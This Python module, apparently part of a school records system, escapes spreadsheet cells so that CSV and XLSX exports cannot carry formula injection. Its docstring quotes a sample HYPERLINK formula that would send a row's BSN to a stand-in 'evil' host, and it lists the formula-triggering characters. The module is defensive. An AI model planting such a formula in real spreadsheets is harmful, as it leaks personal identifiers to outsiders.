"""Spreadsheet cells that cannot become formulas: the one helper every CSV and XLSX export uses.

A text starting with = + - @ (or a tab or carriage return, which some spreadsheets skip before
reading the next character) is read by Excel and LibreOffice as a formula, also from a CSV. A
school name or code-list label such as `=HYPERLINK("https://evil/?"&A2;"klik")` would then send
the row's BSN to an outsider when clicked (CSV/formula injection). OWASP's guidance: prefix such a
cell with a single quote, so it is shown as text. XLSX cells are in addition written with the
string type, so openpyxl never stores a text as a formula.
"""

from datetime import date, datetime
from decimal import Decimal

#: Characters that make a spreadsheet read the cell as a formula (OWASP CSV injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_text(value: str) -> str:
    """The text, with a leading single quote when a spreadsheet would read it as a formula."""
    if value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_value(value):
    """A cell value for CSV or XLSX: numbers, dates and empty cells stay as they are; everything
    else (including lazily translated text) becomes neutralised text."""
    if value is None or isinstance(value, bool | int | float | Decimal | date | datetime):
        return value
    return safe_text(str(value))


def xlsx_row(sheet, values) -> list:
    """Cells for `sheet.append` (also in write-only mode) with every text typed as text."""
    from openpyxl.cell import WriteOnlyCell

    cells = []
    for value in values:
        value = safe_value(value)
        cell = WriteOnlyCell(sheet, value=value)
        if isinstance(value, str):
            cell.data_type = "s"  # never 'f' (formula), whatever the text starts with
        cells.append(cell)
    return cells
